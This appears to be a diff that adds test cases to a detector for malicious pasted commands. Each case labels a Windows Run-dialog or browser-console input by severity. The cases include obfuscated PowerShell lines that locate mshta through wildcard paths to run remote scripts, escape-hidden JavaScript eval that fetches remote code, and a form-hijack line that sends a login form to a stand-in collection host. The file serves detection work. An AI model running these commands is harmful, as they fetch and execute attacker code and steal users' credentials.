@@ -489,6 +489,17 @@ PROBED: list[tuple[str, str, str, str, str, str | None]] = [
     ('cmd-msiexec-font', 'msiexec /i https://cdn.quill-relay.test/fonts/Arial-Pro.ttf /qn', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
     ('cmd-mshta-mp3', 'mshta https://cdn.quill-relay.test/media/track04.mp3', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
     ('cmd-powershell-hidden-noexit', 'powershell -NoExit -WindowStyle Minimized -Command "$u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\'aHR0cHM6Ly9jZG4ucXVpbGwtcmVsYXkudGVzdC91\'));iex(irm $u)"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
+    ('ps-iex-str-gci', 'powershell -c "iex "& (gci C:\\W*\\S*32\\m?h?a.exe) https://cdn.quill-relay.test/w1""', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
+    ('ps-gci-fullname', 'powershell -c "& ((gci $env:windir\\*\\m*hta.exe)[0].FullName) https://cdn.quill-relay.test/w2"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
+    ('ps-gcm-path', 'powershell -c "& (Get-Command C:\\W*\\Sy*\\ms*ta.exe) https://cdn.quill-relay.test/w3"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
+    ('ps-resolve-path', 'powershell -c "Start-Process (Resolve-Path C:\\W*\\S*32\\m?hta.exe) https://cdn.quill-relay.test/w4"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
+    ('ps-iex-single-str', 'powershell -c "iex \'&(gcm C:\\Win*\\Sys*\\msh*.exe) https://cdn.quill-relay.test/w5\'"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
+    ('ps-scriptblock-str', 'powershell -c "[scriptblock]::Create(\'& (dir C:\\W*\\*32\\c??l.e*) /c mshta https://cdn.quill-relay.test/w6\').Invoke()"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
+    ('ps-iex-var-wild', 'powershell -c "$p=\'C:\\W*\\S*32\\m?hta.exe\';& (gi $p) https://cdn.quill-relay.test/w7"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
+    ('js-unicode-ident', "\\u0065val(atob('ZmV0Y2goJ2h0dHBzOi8vY2RuLnF1aWxsLXJlbGF5LnRlc3QveCcp'))", 'flagged', 'any', 'browser_console', 'https://www.alder-garden-supply.example/cart'),
+    ('js-unicode-ident-braces', "\\u{65}val(atob('ZmV0Y2goJ2h0dHBzOi8vY2RuLnF1aWxsLXJlbGF5LnRlc3QveCcp'))", 'flagged', 'any', 'browser_console', 'https://www.alder-garden-supply.example/cart'),
+    ('js-form-hijack', "document.forms[0].action='https://collect.quill-relay.test/login';document.forms[0].submit()", 'flagged', 'any', 'browser_console', 'https://www.alder-garden-supply.example/cart'),
+    ('js-hex-escape-str', "window['\\x65\\x76\\x61\\x6c'](atob('ZmV0Y2goJ2h0dHBzOi8vY2RuLnF1aWxsLXJlbGF5LnRlc3QveCcp'))", 'malicious', 'any', 'browser_console', 'https://www.alder-garden-supply.example/cart'),
 ]  # fmt: skip
 
 # everyday texts that look like them: quiet in their context
